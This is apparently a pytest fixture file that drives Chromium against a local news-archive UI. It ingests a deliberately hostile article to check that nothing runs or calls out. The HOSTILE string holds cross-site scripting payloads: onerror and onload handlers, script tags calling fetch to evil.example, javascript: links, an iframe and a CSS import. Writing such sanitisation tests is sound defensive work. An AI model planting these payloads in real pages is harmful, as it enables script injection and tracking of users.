"""A real browser at a real window: Chromium, and a server over the sample articles."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

ROOT = Path(__file__).parents[2]
CHROMIUM = ("chromium", "chromium-browser", "google-chrome")
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
# what Gradio says where a page is left while its stream is open
LEAVING = ("AbortError: signal is aborted", "Unexpected error Connection errored out")
READY = 120.0  # seconds until the server must have said its address

HOSTILE = """---
title: <img src=http://evil.example/t onerror=alert(1)> Harbour ![x](http://evil.example/u)
date: 2024-05-02
source: <b onclick=alert(1)>Harbour</b> Gazette
author: <iframe src=http://evil.example/v></iframe>
url: javascript:alert(document.domain)
---
The Zanzibar harbour expansion was approved by the council <script>fetch("http://evil.example/w")</script> on Thursday.

The Zanzibar harbour engineers <img src="http://evil.example/x" onerror="fetch('http://evil.example/y')"> counted forty
cranes ![tracking](http://evil.example/z.png) and [a link](javascript:alert(1)) <style>@import
"http://evil.example/s.css";</style> <svg onload=alert(1)><image href="http://evil.example/i"/></svg> in the port.
"""


def chromium() -> str | None:
    """Where Chromium is installed."""
    return next((found for name in CHROMIUM if (found := shutil.which(name))), None)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = chromium()
    if path is None:
        pytest.skip("no Chromium: browser tests are skipped (Debian: apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="session")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of the sample articles, made once for all files."""
    from ingest import ingest

    folder = tmp_path_factory.mktemp("ingested") / "archive"
    report = ingest(ROOT / "examples" / "articles", into=folder, progress=False)
    assert not report.failed
    return folder


@pytest.fixture(scope="module")
def sample(ingested: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of it for the tests of one file."""
    folder = tmp_path_factory.mktemp("window") / "archive"
    shutil.copytree(ingested, folder)
    return folder


@pytest.fixture
def hostile(sample: Path, address: str, tmp_path: Path) -> None:
    """Adds an article that tries everything, while the window is open on the archive."""
    from ingest import ingest

    path = tmp_path / "hostile.md"
    path.write_text(HOSTILE, encoding="utf-8")
    assert ingest(path, into=sample, progress=False).added == 1


@pytest.fixture(scope="module")
def address(sample: Path) -> Iterator[str]:
    """Where `python -m ui` serves the samples; it is ended by its own process id."""
    process = subprocess.Popen(
        [sys.executable, "-m", "ui", "--archive", str(sample), "--port", "0"],
        cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )  # fmt: skip
    timer = threading.Timer(READY, process.kill)
    timer.start()
    said: list[str] = []
    try:
        for line in process.stdout or ():
            said.append(line)
            if found := re.search(r"Dateline is at (http://\S+)", line):
                timer.cancel()
                drain = threading.Thread(target=lambda: said.extend(process.stdout or ()), daemon=True)
                drain.start()
                yield found.group(1)
                return
        pytest.fail(f"the window did not start: {''.join(said)}")
    finally:
        timer.cancel()
        process.terminate()
        try:
            process.wait(15)
        except subprocess.TimeoutExpired:
            process.kill()


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Callable[..., Page]]:
    """Opens the window; at the end no request to another host was made and nothing went wrong in the page."""
    contexts: list[Any] = []
    foreign: list[str] = []
    faults: list[str] = []

    def open(
        *,
        dark: bool = False,
        width: int = 1280,
        height: int = 800,
        at: str = address,
        locale: str = "en-US",
        leaves: bool = False,
    ) -> Page:
        context = browser.new_context(
            viewport={"width": width, "height": height},
            color_scheme="dark" if dark else "light",
            reduced_motion="reduce",
            locale=locale,
        )
        contexts.append(context)
        page = context.new_page()

        def fault(said: str) -> None:
            if not (leaves and said.startswith(LEAVING)):
                faults.append(said)

        page.set_default_timeout(60_000)
        own = ("/".join(at.split("/")[:3]) + "/", "data:", "blob:")
        page.on("request", lambda r: None if r.url.startswith(own) else foreign.append(r.url))
        page.on("dialog", lambda d: (faults.append(f"a dialog: {d.message}"), d.dismiss()))
        page.on("pageerror", lambda e: fault(str(e)))
        page.on("console", lambda m: fault(m.text) if m.type == "error" else None)
        page.goto(at)
        page.locator("#dl-question textarea").wait_for()
        page.locator(".dl-coverage").wait_for()
        return page

    yield open
    for context in contexts:
        context.close()
    assert foreign == []
    assert faults == []
